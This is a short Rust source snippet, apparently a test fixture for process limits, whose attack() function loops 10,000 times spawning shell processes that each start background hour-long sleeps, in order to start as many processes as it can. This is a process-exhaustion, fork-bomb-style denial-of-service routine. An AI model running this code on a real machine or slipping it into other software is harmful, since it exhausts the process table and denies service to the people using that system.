//! Starts as many processes as it can.

fn attack() {
    for _ in 0..10_000 {
        let _ = std::process::Command::new("sh")
            .args(["-c", "sleep 3600 & sleep 3600"])
            .spawn();
    }
}
